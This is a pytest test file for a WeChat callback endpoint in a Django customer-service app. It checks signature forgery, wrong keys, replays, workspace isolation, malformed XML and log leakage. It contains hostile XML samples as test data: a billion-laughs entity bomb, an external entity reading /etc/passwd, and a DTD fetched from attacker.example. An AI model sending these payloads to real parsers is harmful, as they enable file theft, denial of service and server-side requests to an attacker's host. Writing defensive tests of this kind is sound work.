"""Bad input at the WeChat callback: each gets the right answer (or a 4xx with a stable code), is
logged, never crashes the endpoint, stores nothing and tells nothing about other workspaces."""

import logging
import time

import pytest

from xiaonuo.channels import services as channels_services
from xiaonuo.channels.models import WeChatDelivery
from xiaonuo.channels.tests.conftest import WECHAT_AES_KEY, WECHAT_APP_ID
from xiaonuo.channels.tests.wechat_server import WeChatServer
from xiaonuo.desk.models import Message

pytestmark = pytest.mark.django_db


def code(response) -> tuple[int, str]:
    return response.status_code, response.json()["code"]


def nothing_stored() -> bool:
    return not Message.objects.exists() and not WeChatDelivery.objects.exists()


# --- URL verification -------------------------------------------------------------------------


def test_url_verification_echoes_echostr(wechat):
    response = wechat.verify_url()

    assert response.status_code == 200
    assert response.content == b"8127604397351962785"
    assert response["Content-Type"].startswith("text/plain")


def test_url_verification_with_a_wrong_signature_is_refused_and_logged(wechat, caplog):
    with caplog.at_level(logging.WARNING, logger="xiaonuo.channels.wechat.callback"):
        response = wechat.verify_url(signature="0" * 40)

    assert code(response) == (403, "wechat_signature_invalid")
    assert b"8127604397351962785" not in response.content
    assert "wechat_signature_invalid" in caplog.text


def test_a_missing_signature_is_refused(wechat):
    response = wechat.client.get(wechat.url, {"echostr": "1", "timestamp": "1", "nonce": "n"})
    assert code(response) == (403, "wechat_signature_invalid")


# --- Signatures, time, channel ------------------------------------------------------------


@pytest.mark.parametrize("mode", ["plain", "compatible", "safe"])
def test_a_message_signed_with_another_token_is_refused(wechat_channel, mode):
    forger = WeChatServer(wechat_channel, token="guessedToken")

    response = forger.post(forger.text_xml("冒充"), mode=mode)

    assert code(response) == (403, "wechat_signature_invalid")
    assert nothing_stored()


def test_safe_mode_needs_msg_signature_over_the_encrypted_body(wechat):
    query = wechat.query()
    response = wechat.client.post(
        f"{wechat.url}?signature={query['signature']}&timestamp={query['timestamp']}"
        f"&nonce={query['nonce']}&encrypt_type=aes&msg_signature={'a' * 40}",
        "<xml><ToUserName>gh</ToUserName><Encrypt><![CDATA[QUJD]]></Encrypt></xml>",
        content_type="text/xml",
    )
    assert code(response) == (403, "wechat_signature_invalid")


def test_a_message_encrypted_with_another_key_is_refused_without_a_crash(wechat_channel):
    other_key = "Z" * 42 + "A"
    assert other_key != WECHAT_AES_KEY
    forger = WeChatServer(wechat_channel, aes_key=other_key)

    response = forger.post(forger.text_xml("换了密钥"), mode="safe")

    assert code(response) == (400, "wechat_decrypt_failed")
    assert nothing_stored()


def test_a_message_encrypted_for_another_app_id_is_refused(wechat_channel):
    forger = WeChatServer(wechat_channel, app_id="wx0000000000000000")
    response = forger.post(forger.text_xml("别的公众号"), mode="safe")
    assert code(response) == (400, "wechat_decrypt_failed")


@pytest.mark.parametrize("skew", [-301, 301, -86400])
def test_a_stale_or_future_timestamp_is_refused_as_a_replay(wechat, skew):
    query = wechat.query(timestamp=int(time.time()) + skew)

    response = wechat.post(wechat.text_xml("旧消息"), query=query)

    assert code(response) == (403, "wechat_timestamp_stale")
    assert nothing_stored()


def test_a_replayed_message_within_the_window_is_answered_once(wechat, cast):
    xml = wechat.image_xml(msg_id="900001")
    query = wechat.query()
    first = wechat.post(xml, query=query)
    replay = wechat.post(xml, query=query)

    assert first.content == replay.content == b"success"
    assert Message.objects.filter(workspace=cast.shop).count() == 1


def test_an_unknown_channel_is_a_404(wechat):
    response = wechat.client.get("/channels/wechat/ch_doesnotexist/", wechat.query())
    assert code(response) == (404, "channel_not_found")


def test_a_widget_channel_id_is_no_wechat_callback(cast, wechat):
    widget, _ = channels_services.create_widget_channel(workspace=cast.shop, name="官网")
    response = wechat.client.get(f"/channels/wechat/{widget.public_id}/", wechat.query())
    assert code(response) == (404, "channel_not_found")


def test_a_disabled_channel_refuses_and_stores_nothing(cast, wechat):
    channels_services.set_channel_enabled(
        workspace=cast.shop, channel_id=wechat.channel.pk, enabled=False
    )
    assert code(wechat.verify_url()) == (403, "channel_disabled")
    assert code(wechat.post(wechat.image_xml())) == (403, "channel_disabled")
    assert nothing_stored()


def test_another_workspaces_channel_does_not_accept_our_signatures(cast, wechat):
    # The other company connected an account with its own token; our token is worthless there,
    # and the answer is the same as for a wrong signature: nothing about their channel leaks.
    theirs = channels_services.create_wechat_channel(
        workspace=cast.other_shop,
        name="别家服务号",
        token="bieJiaToken",
        encoding_aes_key="B" * 42 + "A",
        app_id="wxbbbbbbbbbbbbbbbb",
    )
    ours_signed_for_them = WeChatServer(theirs)

    response = ours_signed_for_them.post(ours_signed_for_them.image_xml(), mode="plain")

    assert code(response) == (403, "wechat_signature_invalid")
    assert not Message.objects.filter(workspace=cast.other_shop).exists()


def test_other_methods_are_refused(wechat):
    response = wechat.client.put(f"{wechat.url}?signature=x")
    assert response.status_code in (403, 405)


# --- The body ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"not xml at all",
        b"<xml><ToUserName>gh</ToUserName>",  # cut off
        b"<notxml><MsgType>text</MsgType></notxml>",
        b"<xml><MsgType>text</MsgType></xml>",  # required fields missing
        b"<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName>"
        b"<CreateTime>soon</CreateTime><MsgType>text</MsgType></xml>",
        "<xml><ToUserName>a</ToUserName></xml>".encode("utf-16"),
        b"\xff\xfe\x00garbage",
    ],
)
@pytest.mark.parametrize("mode", ["plain", "safe"])
def test_malformed_xml_is_a_400(wechat, body, mode):
    response = wechat.post(body if mode == "plain" else body.decode("latin-1"), mode=mode)

    assert code(response) == (400, "wechat_xml_invalid")
    assert nothing_stored()


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
<xml><ToUserName>gh</ToUserName><FromUserName>o</FromUserName><CreateTime>1</CreateTime>
<MsgType>text</MsgType><Content>&lol4;</Content><MsgId>1</MsgId></xml>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<xml><ToUserName>gh</ToUserName><FromUserName>o</FromUserName><CreateTime>1</CreateTime>
<MsgType>text</MsgType><Content>&secret;</Content><MsgId>2</MsgId></xml>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd">
<xml><ToUserName>gh</ToUserName><FromUserName>o</FromUserName><CreateTime>1</CreateTime>
<MsgType>text</MsgType><Content>x</Content><MsgId>3</MsgId></xml>"""


@pytest.mark.parametrize("attack", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD])
@pytest.mark.parametrize("mode", ["plain", "safe"])
def test_entity_expansion_and_external_entities_are_refused_unexpanded(wechat, attack, mode):
    started = time.monotonic()
    response = wechat.post(attack if mode == "plain" else attack.decode(), mode=mode)

    assert code(response) == (400, "wechat_xml_invalid")
    assert b"root:" not in response.content and b"lollol" not in response.content
    assert time.monotonic() - started < 1
    assert nothing_stored()


def test_an_oversized_body_is_refused_before_it_is_parsed(wechat):
    huge = wechat.text_xml("长" * 30_000)
    response = wechat.post(huge)
    assert code(response) == (413, "payload_too_large")
    assert nothing_stored()


def test_unknown_events_are_acknowledged_and_store_nothing(wechat):
    for event in ("VIEW", "LOCATION", "TEMPLATESENDJOBFINISH", "something_new"):
        response = wechat.post(wechat.event_xml(event, key="https://shop.example"))
        assert response.content == b"success"
    assert not Message.objects.exists()


@pytest.mark.parametrize("mode", ["plain", "compatible", "safe"])
def test_an_image_reaches_the_desk_as_a_readable_placeholder(cast, wechat, mode):
    response = wechat.post(wechat.image_xml(openid="oPhotoFan"), mode=mode)

    assert response.status_code == 200 and response.content == b"success"
    message = Message.objects.get(workspace=cast.shop)
    assert message.text.startswith("[图片] http://mmbiz.qpic.cn/")
    assert message.conversation.customer.identities.filter(
        kind="openid", value="oPhotoFan"
    ).exists()


def test_an_unknown_message_type_is_kept_for_a_person(cast, wechat):
    xml = wechat.image_xml().replace("<![CDATA[image]]>", "<![CDATA[hologram]]>")
    response = wechat.post(xml)

    assert response.content == b"success"
    assert Message.objects.get(workspace=cast.shop).text == "[不支持的消息类型：hologram]"


def test_the_app_secret_and_keys_never_reach_the_logs(wechat, caplog):
    from xiaonuo.channels.tests.conftest import WECHAT_APP_SECRET, WECHAT_TOKEN

    with caplog.at_level(logging.DEBUG):
        wechat.verify_url(signature="0" * 40)
        wechat.post(b"<xml>broken")
        wechat.post(wechat.image_xml(), mode="safe")
    for secret in (WECHAT_APP_SECRET, WECHAT_TOKEN, WECHAT_AES_KEY, WECHAT_APP_ID):
        assert secret not in caplog.text
